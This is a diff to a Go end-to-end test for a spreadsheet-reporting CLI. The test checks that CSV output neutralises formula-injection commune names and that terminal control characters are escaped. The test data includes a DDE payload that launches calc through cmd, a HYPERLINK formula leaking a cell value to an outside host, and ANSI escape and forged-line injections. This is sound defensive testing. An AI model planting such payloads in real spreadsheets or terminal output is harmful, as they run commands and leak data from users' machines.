@@ -3,6 +3,7 @@ package cmd
 import (
 	"archive/zip"
 	"bytes"
+	"encoding/csv"
 	"encoding/json"
 	"io"
 	"os"
@@ -150,5 +151,60 @@ func TestE2ENaNHotspotIsTypeError(t *testing.T) {
 				t.Errorf("hotspots %q: category %q, type errors %v; want not type-1, one type-error at Số liệu!F2\n%s", hotspots, category, typeErrors, errOut)
 			}
 		})
+	}
+}
+
+// validate --format csv does not write a text a spreadsheet would run: a commune cell
+// "=HYPERLINK(…)", "+1+1", "@SUM(1)" or "-1+1" comes out with a leading apostrophe
+// (OWASP), and a table on the terminal shows a name's ESC, BEL and newline as escapes.
+func TestE2ECSVInjectionAndControlCharacters(t *testing.T) {
+	dir := t.TempDir()
+	header := []any{"Xã, phường, thị trấn", "Dân số", "Tổng số người nghiện"}
+	names := []string{`=HYPERLINK("http://x.example/?"&A1,"Bấm")`, "+1+1", "@SUM(1)", "-1+1", "=cmd|' /C calc'!A0"}
+	rows := [][]any{header}
+	for _, n := range names {
+		rows = append(rows, []any{n, 100, 1})
+	}
+	cover := [][]any{{"Đơn vị báo cáo", "Thành phố Trà Vinh"}, {"Loại báo cáo", "Rà soát"}, {"Ngày báo cáo", "20/02/2025"}}
+	writeBook(t, filepath.Join(dir, "r.xlsx"), sheetSpec{name: "Thông tin", rows: cover}, sheetSpec{name: "Số liệu", rows: rows})
+	_, out, errOut := bin(t, dir, "validate", "--format", "csv", "r.xlsx")
+	records, err := csv.NewReader(strings.NewReader(out)).ReadAll()
+	if err != nil || len(records) < 2 {
+		t.Fatalf("csv: %v\n%s\n%s", err, out, errOut)
+	}
+	col := slices.Index(records[0], "commune")
+	seen := map[string]bool{}
+	for _, rec := range records[1:] {
+		for _, cell := range rec {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("a cell a spreadsheet would run: %q", cell)
+			}
+		}
+		seen[rec[col]] = true
+	}
+	for _, n := range names {
+		if !seen["'"+n] {
+			t.Errorf("commune %q not written as '%s; communes: %v", n, n, seen)
+		}
+	}
+
+	// ESC, BEL, a newline in a name (a CSV return holds them as they are)
+	writeText(t, filepath.Join(dir, "r.csv"), "Huyện,Xã,Dân số,Tổng số người nghiện\n"+
+		"Thành phố Trà Vinh,\"Phường\x1b[2J\x07 4\nlỗi giả: forged\",100,-2\n")
+	for _, args := range [][]string{{"validate", "r.csv"}, {"classify", "r.csv"}} {
+		_, out, errOut := bin(t, dir, args...)
+		for _, text := range []string{out, errOut} {
+			if strings.ContainsAny(text, "\x1b\x07") {
+				t.Errorf("%v: a control character reaches the terminal:\n%q", args, text)
+			}
+			for _, line := range strings.Split(text, "\n") {
+				if strings.HasPrefix(line, "lỗi giả") {
+					t.Errorf("%v: a forged line: %q", args, line)
+				}
+			}
+		}
+		if !strings.Contains(out+errOut, `Phường\x1b[2J\x07 4\nlỗi giả: forged`) {
+			t.Errorf("%v: the name is not shown escaped:\n%s%s", args, out, errOut)
+		}
 	}
 }
